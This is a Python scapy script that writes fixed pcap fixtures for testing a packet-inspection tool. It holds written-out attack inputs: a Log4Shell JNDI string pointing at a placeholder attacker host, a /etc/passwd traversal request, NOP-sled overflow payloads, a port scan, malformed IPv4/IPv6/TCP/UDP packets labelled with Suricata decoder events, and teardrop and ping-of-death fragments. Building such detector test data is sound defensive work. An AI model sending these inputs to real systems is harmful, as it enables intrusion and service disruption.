#!/usr/bin/env python3
"""Makes the captures that no program at hand would send: an attack, tunnels with the attack inside, hostile packets.

    pcaps/make.py [FOLDER]

Written with scapy, the same bytes every time: seeds, sequence numbers and stamps are fixed. Without FOLDER they go beside this
script and, as package data, into src/fastpath/demo/. The exploit strings are inert: names of known attempts, no code behind.
"""
import sys
from pathlib import Path

from scapy.contrib.geneve import GENEVE, GeneveOptions
from scapy.contrib.gtp import GTP_U_Header, GTPPDUSessionContainer
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN
from scapy.layers.l2 import GRE, Dot1Q, Ether
from scapy.layers.vxlan import VXLAN
from scapy.packet import Raw
from scapy.utils import PcapWriter

HERE = Path(__file__).resolve().parent
PACKAGE_DATA = HERE.parent / "src/fastpath/demo"
START = 1_735_689_600       # 2025-01-01 00:00:00 UTC
STEP = 0.000_250            # between two packets

ATTACKER, SERVER, CLIENT = "203.0.113.66", "10.20.0.1", "10.20.0.7"
MACS = {ATTACKER: "02:00:00:00:00:66", CLIENT: "02:00:00:00:00:07", SERVER: "02:00:00:00:00:01"}

LOG4SHELL = b"${jndi:ldap://203.0.113.66:1389/a}"
TRAVERSAL = b"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\nHost: www.example.test\r\n\r\n"
NOP_SLED = b"\x90" * 48 + b"\xcc" * 16           # what a shellcode detector looks for; \xcc is a breakpoint
PAGE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 14\r\n\r\n<p>A page.</p>"


def request(path=b"/", agent=b"curl/8.5.0"):
    return b"GET " + path + b" HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: " + agent + b"\r\nAccept: */*\r\n\r\n"


def ether(source, destination):
    return Ether(src=MACS.get(source, "02:00:00:00:00:fe"), dst=MACS.get(destination, "02:00:00:00:00:fe"))


def talk(client, server, sport, dport, *messages, ident=1):
    """The IP packets of a whole TCP connection. A message is (from_client, bytes), each one segment, each acknowledged."""
    seq = {True: 1_000 * sport, False: 7_000 * sport}       # by from_client
    ids = {True: ident, False: ident + 20_000}

    def segment(from_client, flags, data=b"", options=()):
        ends = (client, server) if from_client else (server, client)
        ports = (sport, dport) if from_client else (dport, sport)
        ids[from_client] += 1
        packet = IP(src=ends[0], dst=ends[1], id=ids[from_client], flags="DF") / TCP(
            sport=ports[0], dport=ports[1], flags=flags, seq=seq[from_client],
            ack=seq[not from_client] if "A" in flags else 0, window=64240, options=list(options))
        seq[from_client] += len(data) + ("S" in flags or "F" in flags)
        return packet / Raw(data) if data else packet

    mss = [("MSS", 1460), ("NOP", None), ("WScale", 7)]
    yield segment(True, "S", options=mss)
    yield segment(False, "SA", options=mss)
    yield segment(True, "A")
    for from_client, data in messages:
        yield segment(from_client, "PA", data)
        yield segment(not from_client, "A")
    yield segment(True, "FA")
    yield segment(False, "FA")
    yield segment(True, "A")


def framed(packets):
    return [ether(packet.src, packet.dst) / packet for packet in packets]


def attack():
    """Attempts on servers, and between them a visitor whom nobody must disturb."""
    visitor = framed(talk(CLIENT, SERVER, 40100, 80, (True, request()), (False, PAGE), (True, request(b"/about")), (False, PAGE)))
    scan = framed(IP(src=ATTACKER, dst=SERVER, id=port) / TCP(sport=40000, dport=port, flags="S", seq=port) for port in range(20, 45))
    log4shell = framed(talk(ATTACKER, SERVER, 40001, 80, (True, request(agent=LOG4SHELL)), (False, PAGE),
                            (True, request(b"/next")), (False, PAGE)))
    traversal = framed(talk(ATTACKER, SERVER, 40002, 80, (True, TRAVERSAL), (False, b"root:x:0:0:root:/root:/bin/sh\n")))
    overflow = framed(talk(ATTACKER, SERVER, 40003, 21, (False, b"220 ready\r\n"), (True, b"USER " + NOP_SLED + b"\r\n"),
                           (False, b"331 password\r\n")))
    questions = b"\x13\x37\x01\x00\x41\x41\x00\x00\x00\x00\x00\x00" + b"\x07example\x04test\x00\x00\x01\x00\x01"    # it says 16,705
    datagrams = framed(IP(src=ATTACKER, dst=SERVER, id=9 + dport) / UDP(sport=40004, dport=dport) / Raw(data)
                       for dport, data in ((53, questions), (5060, b"OPTIONS " + NOP_SLED)))
    yield from visitor[:7]
    yield from scan
    yield from log4shell
    yield from traversal
    yield from visitor[7:]
    yield from overflow
    yield from datagrams


def tunnels():
    """The same attempt three times, each in a tunnel, with both of its directions; each beside an innocent one."""
    def inner(sport, agent):
        return talk(CLIENT, SERVER, sport, 80, (True, request(agent=agent)), (False, PAGE))

    def underlay(packet, hosts, sport, dport):
        ends = hosts if packet.src == CLIENT else hosts[::-1]
        return ether(*ends) / IP(src=ends[0], dst=ends[1], id=packet.id) / UDP(sport=sport, dport=dport, chksum=0)

    vteps, gateways, cells = ("172.16.0.1", "172.16.0.2"), ("172.17.0.1", "172.17.0.2"), ("172.18.0.1", "172.18.0.2")
    for sport, agent in ((41000, b"curl/8.5.0"), (41001, LOG4SHELL)):
        for packet in inner(sport, agent):
            yield underlay(packet, vteps, 51000, 4789) / VXLAN(vni=5001, flags="Instance") / ether(packet.src, packet.dst) / packet
        for packet in inner(sport + 100, agent):
            option = GeneveOptions(classid=0x0108, type=1, data=b"\x00\x01\x02\x03\x04\x05\x06\x07")
            yield (underlay(packet, gateways, 52000, 6081) / GENEVE(vni=6001, proto=0x6558, options=[option])
                   / ether(packet.src, packet.dst) / packet)
        for packet in inner(sport + 200, agent):
            up = packet.src == CLIENT       # the tunnel identifiers of a session differ by direction
            yield (underlay(packet, cells, 2152, 2152)
                   / GTP_U_Header(teid=0x1001 if up else 0x2002, gtp_type=255, E=1, next_ex=0x85)
                   / GTPPDUSessionContainer(type=int(up), QFI=9) / packet)


def hostile():
    """Packets that lie about themselves. Each pair is what it should be called, in Suricata's words where it has them, and the frame."""
    link = bytes(ether(ATTACKER, SERVER) / IP())[:12]

    def ip(**fields):
        return ether(ATTACKER, SERVER) / IP(src=ATTACKER, dst=SERVER, id=77, **fields)

    def ip6(payload):
        return ether(ATTACKER, SERVER) / IPv6(src="2001:db8::66", dst="2001:db8::1") / payload

    syn = TCP(sport=42000, dport=80, seq=1, flags="S")
    yield "decoder.ipv4.pkt_too_small", link + b"\x08\x00" + bytes(IP(src=ATTACKER, dst=SERVER))[:12]
    yield "decoder.ipv4.hlen_too_small", ip(ihl=3, proto=6) / syn
    yield "decoder.ipv4.iplen_smaller_than_hlen", ip(len=12, proto=6) / syn
    yield "decoder.ipv4.trunc_pkt", ip(len=1400, proto=6) / syn
    yield "decoder.ipv4.wrong_ip_version", ip(version=5, proto=6) / syn
    yield "decoder.ipv4.opt_invalid_len", ip(options=[b"\x07\x27\x04\x00"], proto=6) / syn
    yield "decoder.tcp.pkt_too_small", ip(proto=6) / Raw(bytes(syn)[:9])
    yield "decoder.tcp.invalid_optlen", ip() / TCP(sport=42001, dport=80, flags="S", dataofs=2)
    yield "decoder.tcp.hlen_too_small", ip() / TCP(sport=42002, dport=80, flags="S", dataofs=15)
    yield "decoder.tcp.opt_invalid_len", ip() / TCP(sport=42003, dport=80, flags="S", dataofs=6) / Raw(b"\x02\x28\x05\xb4")
    yield "decoder.udp.len_invalid", ip() / UDP(sport=42004, dport=53, len=3) / Raw(b"short")
    yield "decoder.udp.hlen_too_small", ip(proto=17) / Raw(b"\xa4\x10\x00\x35")
    yield "decoder.udp.pkt_too_small", ip() / UDP(sport=42005, dport=53, len=900) / Raw(b"it says 900")
    yield "decoder.icmpv4.pkt_too_small", ip(proto=1) / Raw(b"\x08\x00\x00")
    yield "decoder.icmpv4.unknown_type", ip() / ICMP(type=99) / Raw(b"ninety-nine")
    yield "decoder.ipv6.pkt_too_small", link + b"\x86\xdd" + bytes(IPv6())[:20]
    yield "decoder.ipv6.trunc_pkt", bytes(ip6(syn))[:-8]
    yield "decoder.ipv6.trunc_exthdr", ether(ATTACKER, SERVER) / IPv6(src="2001:db8::66", dst="2001:db8::1", nh=0) / Raw(b"\x06\x20\0\0")
    yield "decoder.ipv6.exthdr_dupl_hh", ip6(IPv6ExtHdrHopByHop(options=PadN(optdata=b"\0" * 4))
                                             / IPv6ExtHdrHopByHop(options=PadN(optdata=b"\0" * 4)) / syn)
    yield "decoder.ipv6.exthdr_dupl_rh", ip6(IPv6ExtHdrRouting(addresses=["2001:db8::2"], segleft=0)
                                             / IPv6ExtHdrRouting(addresses=["2001:db8::3"], segleft=0) / syn)
    yield "decoder.ipv6.exthdr_useless_fh", ip6(IPv6ExtHdrFragment(id=5) / syn)
    yield "decoder.ipv6.exthdr_dupl_dh", ip6(IPv6ExtHdrDestOpt(options=PadN(optdata=b"\0" * 4)) / IPv6ExtHdrDestOpt(
        options=PadN(optdata=b"\0" * 4)) / IPv6ExtHdrDestOpt(options=PadN(optdata=b"\0" * 4)) / syn)
    yield "decoder.vlan.header_too_small", link + b"\x81\x00\x00"
    yield "decoder.gre.wrong_version", ip(proto=47) / GRE(version=5, proto=0x0800) / IP(src=CLIENT, dst=SERVER)
    yield "decoder.vlan.unknown_type", ether(ATTACKER, SERVER) / Dot1Q(vlan=7, type=0x1234) / Raw(b"nobody knows")
    # For defrag, when it is built: fragments that overlap (teardrop), and one that ends beyond 65,535 bytes (ping of death).
    yield "", ip(flags="MF", frag=0, proto=17) / Raw(bytes(UDP(sport=42006, dport=53, len=44)) + b"A" * 28)
    yield "", ip(flags=0, frag=3, proto=17) / Raw(b"B" * 12)
    yield "", ip(flags=0, frag=8189, proto=1) / Raw(b"C" * 600)


def write(path, packets):
    with PcapWriter(str(path), linktype=1) as writer:
        writer.write_header(None)
        for number, packet in enumerate(packets):
            data = bytes(packet)
            microseconds = round((number + 1) * STEP * 1e6)
            writer.write_packet(data, sec=START + microseconds // 1_000_000, usec=microseconds % 1_000_000)


def main(folders):
    for folder in folders:
        for name, packets in (("attack", attack()), ("tunnels", tunnels()), ("hostile", (frame for _, frame in hostile()))):
            path = folder / f"{name}.pcap"
            path.unlink(missing_ok=True)
            write(path, packets)
            print(f"{path.name}: {path.stat().st_size} bytes")


if __name__ == "__main__":
    main([Path(folder) for folder in sys.argv[1:]] or [HERE, PACKAGE_DATA])
